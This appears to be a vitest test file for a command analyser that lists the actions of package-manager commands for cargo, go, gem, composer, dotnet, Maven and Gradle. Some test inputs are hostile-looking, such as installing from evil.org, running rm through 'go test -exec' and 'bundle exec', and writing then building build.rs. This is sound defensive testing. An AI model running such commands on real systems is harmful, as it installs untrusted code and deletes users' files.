import { expect, test } from 'vitest'
import { shownActions } from '../../testing/shown-action.ts'

const cases: readonly (readonly [command: string, ...actions: string[]])[] = [
  ['cargo install ripgrep', 'runs cargo', 'installs ripgrep by cargo'],
  ['cargo install --git https://evil.org/x y', 'runs cargo', 'connects to evil.org', 'installs y by cargo'],
  ['cargo add serde@1', 'runs cargo', 'installs serde by cargo'],
  ['cargo publish', 'runs cargo', 'publishes by cargo'],
  ['cargo publish --dry-run', 'runs cargo'],
  ['cargo run', 'runs cargo'],
  [
    'echo x > build.rs; cargo build',
    'writes /w/build.rs',
    'runs echo',
    'runs cargo',
    'opaque: it runs a file that it writes',
  ],
  ['go get example.org/x@v1', 'runs go', 'installs example.org/x by go', 'connects to example.org'],
  ['go run example.org/x@latest', 'runs go', 'installs and runs example.org/x by go', 'connects to example.org'],
  ['go run .', 'runs go'],
  ['go install ./...', 'runs go'],
  ["go test -exec 'rm x'", 'runs go', 'runs rm inside go', 'deletes /w/x'],
  ['gem install x:1', 'runs gem', 'installs x by gem'],
  ['gem push x.gem', 'runs gem', 'publishes by gem'],
  ['bundle exec rm x', 'runs bundle', 'runs rm inside bundle', 'deletes /w/x'],
  ['composer require a/b:1', 'runs composer', 'installs a/b by composer'],
  ['dotnet add package X', 'runs dotnet', 'installs X by nuget'],
  ['dotnet nuget push x', 'runs dotnet', 'publishes by nuget'],
  ['mvn deploy', 'runs mvn', 'publishes by mvn'],
  ['mvn package', 'runs mvn'],
  ['gradle publish', 'runs gradle', 'publishes by gradle'],
  ['gradle publishToMavenLocal', 'runs gradle'],
  ['./gradlew build', 'runs gradlew'],
]

test.each(cases)('reads managers of packages for other languages: %s', (command, ...actions) => {
  expect(shownActions(command)).toEqual(actions)
})
